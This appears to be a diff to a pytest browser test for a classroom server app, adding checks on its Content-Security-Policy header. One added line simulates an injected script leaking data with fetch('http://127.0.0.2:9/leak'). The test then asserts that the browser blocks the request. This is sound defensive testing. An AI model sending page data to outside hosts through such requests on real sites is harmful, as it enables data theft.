@@ -17,7 +17,7 @@ import pytest
 
 from typhoon_edu.server.serve import VoilaProcess
 
-from .harness import REPO_ROOT, VIEWPORTS, save_screenshot
+from .harness import POLICY_VIOLATIONS, REPO_ROOT, VIEWPORTS, save_screenshot
 
 pytestmark = pytest.mark.browser
 
@@ -127,7 +127,11 @@ def test_the_teachers_address_gives_the_setup_page_and_a_second_browser_the_join
             save_screenshot(projector, f"server-teacher-setup-{lang}")
 
             phone = student.new_page()
-            phone.goto(origin, wait_until="load", timeout=180_000)  # "/" without the key: the join page
+            answer = phone.goto(origin, wait_until="load", timeout=180_000)  # "/" without the key: the join page
+            assert answer is not None
+            policy = answer.headers.get("content-security-policy", "")
+            assert f"connect-src 'self' ws://127.0.0.1:{server.port} wss://127.0.0.1:{server.port};" in policy, policy
+            assert "frame-ancestors 'self'" in policy and "default-src 'self'" in policy, policy
             phone.locator(".typhoon-join-code").first.wait_for(state="visible", timeout=180_000)
             assert phone.locator(".typhoon-setup-start").count() == 0
             phone.goto(f"{origin}join", wait_until="load", timeout=180_000)
@@ -135,6 +139,15 @@ def test_the_teachers_address_gives_the_setup_page_and_a_second_browser_the_join
             save_screenshot(phone, f"server-student-join-{lang}")
             for recorder in recorders:
                 assert recorder.seen == [], f"requests to other hosts: {recorder.seen}"
+            assert POLICY_VIOLATIONS == [], POLICY_VIOLATIONS  # the policy refused nothing the pages need
+
+            # A script that got into a page cannot send what it reads to another host: the browser
+            # refuses the request before it is made (the route recorder never sees it).
+            phone.evaluate("fetch('http://127.0.0.2:9/leak', {mode: 'no-cors'}).catch(() => null)")
+            phone.wait_for_timeout(300)
+            assert any("connect-src" in v and "127.0.0.2" in v for v in POLICY_VIOLATIONS), POLICY_VIOLATIONS
+            assert recorders[1].seen == []
+            POLICY_VIOLATIONS.clear()
         finally:
             teacher.close()
             student.close()
